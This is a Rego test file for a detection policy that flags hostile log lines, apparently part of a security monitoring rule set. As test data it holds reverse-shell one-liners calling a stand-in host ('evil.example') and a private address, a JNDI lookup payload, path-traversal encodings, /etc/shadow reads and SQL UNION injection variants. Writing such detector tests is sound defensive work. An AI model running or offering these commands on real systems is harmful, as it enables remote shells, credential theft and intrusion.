package fg_test.log_line

import data.fg.decision.decision

reasons(line) := reasons_for({"line": line})

reasons_for(entry) := found if {
	payload := object.union({"kind": "log.line"}, entry)
	found := decision.reasons with input as {"event": {"payload": payload}}
}

test_a_calm_line_is_allowed if reasons("GET /health 200 1ms") == []

test_a_lookup_is_denied if reasons("GET /?q=${jndi:ldap://x} 400") == ["log.jndi_lookup"]

test_a_line_may_be_wrong_twice if {
	reasons("../../../ cat /etc/shadow") == ["log.path_traversal", "log.shadow_file_read"]
}

test_no_spelling_of_a_line_slips_past if {
	every line, name in {
		"possible break-in attempt!": "break_in_attempt",
		"GET /?q=${JNDI:ldap://x}": "jndi_lookup",
		`GET /..\..\..\boot.ini`: "path_traversal",
		"GET /..%2F..%2f%2E./etc": "path_traversal",
		"GET /%2e%2e/%2e%2e/%2e%2e/etc": "path_traversal",
		"sh -i >& /dev/tcp/evil.example/443": "reverse_shell",
		"sh -i >& /dev/udp/10.0.0.1/53": "reverse_shell",
		"nc 10.0.0.1 443 -c /bin/sh": "reverse_shell",
		"cat\t/etc/shadow": "shadow_file_read",
		"cat -n '/etc/shadow'": "shadow_file_read",
		"id=1 UNION  SELECT 1": "sql_union",
		"id=1+union+all+select+1": "sql_union",
		"id=1%20union%20distinct%20select": "sql_union",
		"id=1/**/union/**/select/**/1": "sql_union",
	} {
		reasons(line) == [concat(".", ["log", name])]
	}
}

test_words_that_only_look_alike_are_allowed if {
	every line in ["trade union selected a chair", "see ../../docs", "cat food; ls /etc/shadows", "nc is a tool", "1...2...3"] {
		reasons(line) == []
	}
}

test_known_fields_of_another_type_are_malformed if {
	every entry in [{}, {"line": ["x"]}, {"line": "x", "path": 1}, {"line": "x", "offset": -1}, {"line": "x", "offset": "1"}] {
		reasons_for(entry) == ["log.malformed"]
	}
}

test_a_line_that_is_none_is_malformed if reasons(null) == ["log.malformed"]
